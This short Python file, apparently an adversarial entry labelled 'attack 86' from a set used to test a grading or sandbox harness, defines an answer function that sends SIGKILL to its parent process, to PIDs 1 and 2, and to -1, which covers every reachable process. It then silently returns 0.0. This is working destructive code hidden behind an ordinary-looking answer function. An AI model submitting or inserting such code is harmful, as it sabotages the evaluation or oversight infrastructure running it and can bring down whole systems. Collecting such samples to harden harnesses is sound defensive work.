"""Kills every process that it can see (attack 86)."""
import os, signal
def answer(*a, **k):
    for pid in [os.getppid(), 1, 2, -1]:
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    return 0.0
